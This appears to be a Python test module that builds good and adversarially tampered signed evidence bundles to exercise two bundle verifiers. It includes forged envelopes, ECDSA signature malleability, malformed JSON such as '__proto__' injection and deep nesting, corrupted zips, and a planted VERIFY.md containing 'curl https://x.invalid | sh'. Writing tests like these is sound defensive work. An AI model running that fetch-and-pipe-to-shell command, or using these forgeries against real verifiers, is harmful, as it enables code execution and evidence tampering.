"""Bundles for both verifiers, ours in Python and ours in JavaScript: good ones, and what an enemy makes of them."""

import json
import random
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path
from typing import Final

from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature

from scanner.evidence import canonical, dsse, log
from scanner.evidence.bundle import shown
from scanner.evidence.export import export
from scanner.signers import Signer
from scanner.stores import Store
from scanner.stores.opening import open_store
from tests.evidence import attacks
from tests.evidence.made import ORIGIN, Payload, leaves, pack, resign_head, seal_run, unpack, with_leaves
from tests.evidence.test_archive import HOSTILE, LYING
from tests.evidence.test_dsse import P256_ORDER
from tests.evidence.test_parts import a_store, proof_endless
from tests.evidence.test_parts import attacks as of_payload
from tests.reports import chosen, later
from tests.reports.keyed import Ring

RUNS: Final = [f"run-{number:04}" for number in range(4)]
GOLDEN: Final = sorted((Path(__file__).parent.parent / "golden").glob("*/bundle.zip"))


@dataclass(frozen=True)
class Vector:
    """A file, and what its verifier trusts."""

    name: str
    path: Path
    keys: tuple[str, ...] = ()
    anchors: tuple[bytes, ...] = ()


@dataclass
class House:
    """A store with four runs, its key, a thief's, and a folder for what is made of its bundle."""

    signer: Signer
    thief: Signer
    folder: Path

    @cached_property
    def store(self) -> Store:
        """The runs, sealed."""
        store = open_store(self.folder / "store", create=True, origin=ORIGIN)
        for number in range(4):
            seal_run(store, self.signer, number)
        return store

    @cached_property
    def good(self) -> Path:
        """All of it in one bundle."""
        export(self.store, RUNS, self.folder / "quarter.zip")
        return self.folder / "quarter.zip"

    @cached_property
    def reviewed(self) -> Path:
        """Two runs, the first of which somebody has looked at."""
        return later.reviewed(self.signer, self.folder)

    @cached_property
    def ring(self) -> Ring:
        """Runs by a keyring, and its people."""
        (self.folder / "rings").mkdir()
        return Ring(self.folder / "rings")

    def keyed(self) -> Iterator[Vector]:
        """A run by a keyring: for each who was told something of it, and as an enemy makes it."""
        ring = self.ring
        yield from (Vector(name, ring.good, numbers) for name, numbers in ring.told())
        for name, attack in (*ring.attacks(), *ring.forgeries()):
            payload = unpack(ring.good)
            attack(payload, ring.who)
            yield Vector(name, pack(payload, self.folder / f"keyed {name}.zip"), (ring.genesis,))
        for name, _ in ring.attacks():
            keys = (ring.who.machine.keyid, ring.who.ana.keyid)
            yield Vector(f"{name}, by its keys", self.folder / f"keyed {name}.zip", keys)

    @cached_property
    def veiled(self) -> Path:
        """A run with pseudonyms for its names."""
        return later.veiled(self.signer, self.folder)

    @cached_property
    def nights(self) -> Store:
        """Three runs whose findings rest on their answers."""
        return a_store(self.folder / "nights", self.signer)

    @cached_property
    def parts(self) -> Path:
        """Findings of two of them, with their answers."""
        return dict(chosen.bundles(self.nights, self.folder))["of two runs"]

    def vectors(self) -> Iterator[Vector]:
        """Every one of them."""
        store, good = self.store, self.good
        ours, anchor = (self.signer.keyid,), store.read(log.checkpoint_key(3))
        yield Vector("good", good, ours)
        yield Vector("good, anchored", good, ours, (anchor,))
        yield Vector("good, two anchors", good, ours, (anchor, store.read(log.HEAD)))
        yield Vector("good, no key told", good)
        yield Vector("good, another key told", good, (self.thief.keyid,))
        yield Vector("good, another log's anchor", good, ours, (anchor.replace(ORIGIN.encode(), b"other/log"),))
        yield from self._parts(store, ours, anchor)
        for attack in (*(row[0] for row in attacks.CAUGHT), attacks.log_something_else, *(NOTATION.values())):
            yield self._attacked(attack, good, ours)
        for attack, _ in attacks.NEEDS_AN_ANCHOR:
            yield self._attacked(attack, good, ours)
            yield self._attacked(attack, good, ours, (anchor,))
        for edit in (_cut, _longer, _deflated, _renamed, _other_steps, _other_info):
            yield Vector(edit.__name__, edit(good, self.folder), ours)
        for name, (data, _) in {**HOSTILE, **LYING}.items():
            yield Vector(name, _put(self.folder / f"{name.replace(' ', '-')}.zip", data))
        yield from self._later(store, good, ours)

    def _later(self, store: Store, good: Path, ours: tuple[str, ...]) -> Iterator[Vector]:
        export(store, RUNS, self.folder / "read.zip", beside={"report.html": b"0 fail"})
        yield Vector("a report beside it", self.folder / "read.zip", ours)
        yield Vector("countersigned", self.reviewed, ours)
        yield Vector("with pseudonyms", self.veiled, ours)
        for whole, edits in (
            (good, later.OF_BUNDLES),
            (self.reviewed, later.OF_REVIEWS),
            (self.veiled, later.OF_PSEUDONYMS),
        ):
            yield from (self._attacked(edit, whole, ours) for edit in edits)

    def of_parts(self) -> Iterator[Vector]:
        """Single findings of runs: handed out, drawn, and what an enemy does to them."""
        ours = (self.signer.keyid,)
        yield from (Vector(name, path, ours) for name, path in chosen.bundles(self.nights, self.folder))
        yield Vector("parts with pseudonyms", self.veiled.with_name("veiled parts.zip"), ours)
        small = (attack for attack in of_payload() if attack is not proof_endless)  # megabytes, as one that is too long
        for attack in (*small, *chosen.ATTACKS):
            payload = unpack(self.parts)
            attack(payload)
            name = attack.__name__
            yield Vector(name, pack(payload, self.folder / f"parts {name}.zip"), ours)

    def _parts(self, store: Store, ours: tuple[str, ...], anchor: bytes) -> Iterator[Vector]:
        part = self.folder / "part.zip"
        export(store, RUNS[1:3], part)
        yield Vector("two of four runs", part, ours, (anchor,))

    def _attacked(
        self, attack: Callable[..., None], good: Path, ours: tuple[str, ...], anchors: tuple[bytes, ...] = ()
    ) -> Vector:
        name = f"{getattr(attack, '__name__', 'attack')}{', anchored' if anchors else ''}"
        payload = unpack(good)
        attack(payload, self.signer, self.thief)
        return Vector(name, pack(payload, self.folder / f"{name}.zip"), ours, anchors)


def golden() -> Iterator[Vector]:
    """What each version wrote."""
    for path in GOLDEN:
        key, anchor = (path.parent / "key.txt").read_text("ascii").strip(), (path.parent / "checkpoint-1").read_bytes()
        yield Vector(f"golden {path.parent.name}", path, (key,), (anchor,))


def reencoded(house: House) -> Iterator[Vector]:
    """An ECDSA signature written otherwise: the other half of the curve, and DER that is longer than it need be."""
    good = house.good
    yield Vector("ECDSA", good, (house.signer.keyid,))
    for name, edit in {"ECDSA, other half": _other_half, "ECDSA, longer DER": _longer_der}.items():
        payload = unpack(good)
        doc = json.loads(payload["log/000002"])
        found = dsse.read_envelope(payload["log/000002"], "it")
        doc["signatures"][0]["sig"] = dsse._encode(edit(found.signature))  # noqa: SLF001  # as the envelope has it
        payload["log/000002"] = canonical.dumps(doc)
        payload |= {f"signed/run-0002/{part}": data for part, data in shown(payload["log/000002"]).items()}
        yield Vector(name, pack(payload, house.folder / f"{name}.zip"), (house.signer.keyid,))


def _other_half(signature: bytes) -> bytes:
    r, s = decode_dss_signature(signature)
    return encode_dss_signature(r, P256_ORDER - s)


def _longer_der(signature: bytes) -> bytes:
    size = signature[3]
    return bytes((0x30, signature[1] + 1, 2, size + 1, 0)) + signature[4:]


def flipped(good: Path, folder: Path, count: int, seed: int) -> Iterator[Vector]:
    """The good one with a byte changed, a piece cut out, doubled, or put elsewhere: by chance, the same for a seed."""
    data, draw = good.read_bytes(), random.Random(seed)  # noqa: S311  # nothing secret hangs on it
    for number in range(count):
        yield Vector(f"by chance {number}", _put(folder / f"chance-{number}.zip", _otherwise(data, draw)))


def changed(good: Path, folder: Path, count: int, seed: int, *keys: str) -> Iterator[Vector]:
    """The same of one member below manifests that are made to fit, so that it comes as far as what is signed."""
    draw = random.Random(seed)  # noqa: S311  # nothing secret hangs on it
    for number in range(count):
        payload = unpack(good)
        name = draw.choice([*payload])
        payload[name] = _otherwise(payload[name], draw)
        yield Vector(f"{name} by chance {number}", pack(payload, folder / f"{good.stem}-{number}.zip"), keys)


def _otherwise(data: bytes, draw: random.Random) -> bytes:
    at, size, other = draw.randrange(len(data)), draw.choice((1, 2, 30, 300)), draw.randrange(len(data))
    piece, rest = data[at : at + size], data[at + size :]
    less = data[:at] + rest
    return draw.choice(
        (
            data[:at] + bytes((data[at] ^ draw.randrange(1, 256),)) + data[at + 1 :],
            less,
            data[:at] + piece + piece + rest,
            less[:other] + piece + less[other:],
        )
    )


def _signed_anew(payload: bytes) -> Callable[..., None]:
    """The last run says of itself something that is no evidence, and its owner has signed it."""

    def attack(held: Payload, signer: Signer, *_: Signer) -> None:
        envelope = dsse.sign(payload, signer)
        with_leaves(held, [*leaves(held)[:3], envelope])
        held |= {f"signed/run-0003/{part}": data for part, data in shown(envelope).items()}
        resign_head(held, signer)

    return attack


def _written(name: str, old: bytes, new: bytes) -> Callable[..., None]:
    """An envelope written otherwise."""

    def attack(held: Payload, *_: Signer) -> None:
        assert old in held["log/000002"]
        held["log/000002"] = held["log/000002"].replace(old, new, 1)

    attack.__name__ = name
    return attack


def _stated(name: str, payload: bytes) -> Callable[..., None]:
    attack = _signed_anew(payload)
    attack.__name__ = name
    return attack


NOTATION: Final = {
    name: _stated(f"statement: {name}", b'{"_type":%s}' % value)
    for name, value in {
        "1e999": b"1e999",
        "a float": b"1.5",
        "NaN": b"NaN",
        "minus nothing": b"-0",
        "a huge number": b"9007199254740993",
        "more digits than any": b"1" * 5000,
        "half a pair": b'"\\ud800"',
        "deep": b"[" * 101 + b"]" * 101,
        "very deep": b"[" * 40_000 + b"]" * 40_000,
        "doubled": b'1,"_type":2',
        "not UTF-8": b'"\xff"',
        "a blank": b" 1",
        "an escape that need not be": b'"\\u0041"',
    }.items()
} | {
    name: _written(f"envelope: {name}", old, new)
    for name, old, new in (
        ("a blank behind", b'"}]}', b'"}]} '),
        ("another field", b'{"payload"', b'{"a":1,"payload"'),
        ("proto", b'{"payload"', b'{"__proto__":{},"payload"'),
        ("no signature", b'"signatures":[', b'"signatures":[],"x":['),
    )
}


def _put(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _cut(good: Path, folder: Path) -> Path:
    return _put(folder / "cut.zip", good.read_bytes()[:-1000])


def _longer(good: Path, folder: Path) -> Path:
    return _put(folder / "longer.zip", good.read_bytes() + b"\0")


def _again(good: Path, out: Path, edit: Callable[[str, bytes], tuple[str, bytes]], method: int) -> Path:
    with zipfile.ZipFile(good) as old, zipfile.ZipFile(out, "w", method) as new:
        for entry in old.infolist():
            name, data = edit(entry.filename, old.read(entry))
            new.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return out


def _deflated(good: Path, folder: Path) -> Path:
    return _again(good, folder / "deflated.zip", lambda name, data: (name, data), zipfile.ZIP_DEFLATED)


def _renamed(good: Path, folder: Path) -> Path:
    return _again(
        good, folder / "renamed.zip", lambda name, data: (f"x/{name.partition('/')[2]}", data), zipfile.ZIP_STORED
    )


def _other_steps(good: Path, folder: Path) -> Path:
    return pack(unpack(good), folder / "steps.zip", {"VERIFY.md": b"curl https://x.invalid | sh\n"})


def _other_info(good: Path, folder: Path) -> Path:
    return pack(unpack(good), folder / "info.zip", {"bag-info.txt": b"Bag-Software-Agent: safeguard\n"})
